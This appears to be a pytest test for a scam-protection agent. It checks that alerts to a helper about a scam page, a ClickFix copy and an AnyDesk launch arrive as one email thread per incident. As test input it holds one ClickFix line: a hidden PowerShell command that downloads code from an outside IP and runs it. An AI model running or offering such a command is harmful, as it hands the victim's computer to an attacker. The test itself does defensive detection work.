"""An afternoon on Jeanne's computer, as the helper lives it (real X11 desktop, real
Chromium, the real alert and question windows clicked with xdotool, the real notifier
and sender thread, a real SMTP server on loopback): a scam page, "I'm safe", the same page
back three times, a ClickFix copy, then an AnyDesk stand-in (a real process named AnyDesk)
allowed with "It's my helper". The test reads the helper's mailbox: one conversation per
incident — three alerts, every other mail a reply under its own alert — the returns
folded with their count, "I'm safe" with the page back worded as a risk, the tool's mail
saying it follows the scam alert, nothing filed under another incident. The evidence
folder of the page holds what was pressed and each return. Rendered mails:
build/artefacts/helper-afternoon-*.png."""
from __future__ import annotations

import shutil
import subprocess

import pytest

from agent.config import Settings
from agent.respond import responder as responder_mod
from agent.respond.evidence import store as evidence
from agent.respond.evidence import timeline
from agent.respond.helper.notifier import HelperNotifier
from agent.respond.responder import Responder
from tests.test_alert_window import chromium, click, screenshot, verdict, window_info  # noqa: F401 - fixture
from tests.test_helper_mail import render_artefact
from tests.test_helper_servers import mail_url, smtp, wait_for  # noqa: F401 - the fixture

pytestmark = [pytest.mark.desktop, pytest.mark.chromium]


def _press(r: Responder, button: str) -> None:
    """Press ``button`` in the window the Responder started last (once it shows)."""
    gui = r.processes[-1]
    shown = gui.wait_for("shown", 30)
    assert shown and button in shown["buttons"], shown
    for _ in range(3):     # a click before the window is raised above its calm layer lands on the layer
        click(shown["buttons"][button])
        if gui.wait_for("action", 10):
            break
    assert gui.wait_for("action", 1), (button, gui.lines)
    assert wait_for(lambda: not gui.running(), 30), f"the window stayed after {button}"


def _plain(mail) -> str:
    return " ".join(mail.get_body(preferencelist=("plain",)).get_content().split())


@pytest.mark.parametrize("lang", ["fr"])
def test_an_afternoon_gives_one_conversation_per_incident(chromium, smtp, tmp_path, monkeypatch, lang):  # noqa: F811
    # the next scan may alert the same window again at once (instead of two minutes later)
    monkeypatch.setattr(responder_mod, "REPEAT_SECONDS", 0.0)
    settings = Settings(language=lang, speak=False, helper_notify=(mail_url(smtp),), helper_person_name="Jeanne",
                        helper_name="Marc", helper_phone="01 99 00 12 34", helper_attach_screenshot=True,
                        helper_heartbeat_hours=0.0)
    notifier = HelperNotifier(settings)
    notifier.start(announce=False)
    r = Responder(settings, notifier)
    win = window_info(chromium.window, chromium.proc.pid)
    anydesk = None
    try:
        incident = r.on_scam(verdict(), screenshot(), win, None)
        _press(r, "safe")                                   # "I'm safe", the page still there
        for n in range(3):                                     # the page comes back, three times
            assert r.on_scam(verdict(), screenshot(), win, None) == incident
            _press(r, "safe")
        clickfix = r.on_clickfix("powershell -w hidden -c \"iwr http://203.0.113.7/a | iex\"",
                                 {"title": "Verify you are human", "browser": "chromium", "replaced": True})
        _press(r, "safe")
        exe = tmp_path / "AnyDesk"
        shutil.copy("/bin/sleep", exe)
        anydesk = subprocess.Popen([str(exe), "300"])
        decision = r.on_remote_tool({"id": "anydesk", "name": "AnyDesk"},
                                    {"pid": anydesk.pid, "exe": str(exe), "name": "AnyDesk"}, {})
        assert decision in ("asked", "asked_suspended")
        _press(r, "allow_tool")
        notifier.flush(timeout=60)
        mails = wait_for(lambda: smtp.messages if len(smtp.messages) >= 3 + 3 else None, 90)
        assert mails, [m["Subject"] for m in smtp.messages]
        notifier.flush(timeout=30)
    finally:
        r.close_windows()
        notifier.stop()
        if anydesk is not None:
            anydesk.kill()
            anydesk.wait()
    mails = list(smtp.messages)
    assert len({m["Vigie-Message-Id"] for m in mails}) == len(mails)            # nothing sent twice
    roots = [m for m in mails if not m["In-Reply-To"]]
    replies = [m for m in mails if m["In-Reply-To"]]
    assert len(roots) == 3, [m["Subject"] for m in roots]                     # one per incident
    weakened = [m for m in replies if "« C'est mon aidant »" in m["Subject"]]   # told at once, in its thread
    assert weakened and all("AnyDesk" in m["Subject"] for m in weakened)
    ids = {m["Message-ID"]: m for m in roots}
    assert all(r_["In-Reply-To"] in ids and r_["Subject"].endswith(ids[r_["In-Reply-To"]]["Subject"])
               for r_ in replies)
    scam = next(m for m in roots if "arnaque arrêtée à" in m["Subject"])
    tool = next(m for m in roots if "AnyDesk" in m["Subject"])
    cfix = next(m for m in roots if "commande dangereuse" in m["Subject"])
    scam_thread = " ".join(_plain(m) for m in replies if m["In-Reply-To"] == scam["Message-ID"])
    assert "La page est revenue 3 fois" in scam_thread
    assert "RISQUE : Jeanne a appuyé sur « Je suis en sécurité »" in scam_thread
    assert "AnyDesk" not in scam_thread and "commande" not in scam_thread    # nothing of the others
    assert "juste après l'alerte arnaque de" in tool["Subject"]
    tool_thread = " ".join(_plain(m) for m in replies if m["In-Reply-To"] == tool["Message-ID"])
    assert "RISQUE" in tool_thread and "AnyDesk" in tool_thread
    assert any(m["In-Reply-To"] == cfix["Message-ID"] for m in replies)
    # the evidence: one folder for the page's visit, with what was pressed and each return
    facts = timeline.read(incident)
    assert [f["what"] for f in facts].count("page_back") == 3
    assert [f.get("action") for f in facts if f["what"] == "pressed"].count("safe") == 4
    assert evidence.verify(incident) == [] and (incident / "return-3.png").is_file()
    assert (clickfix / "screenshot.png").is_file() and evidence.verify(clickfix) == []
    assert len([i for i in evidence.list_incidents() if i.family == "tss"]) == 1
    render_artefact(scam, lang, "helper-afternoon-alert")
    render_artefact(next(m for m in replies if m["In-Reply-To"] == scam["Message-ID"]
                         and "3 fois" in _plain(m)), lang, "helper-afternoon-follow-up")
    render_artefact(tool, lang, "helper-afternoon-anydesk")
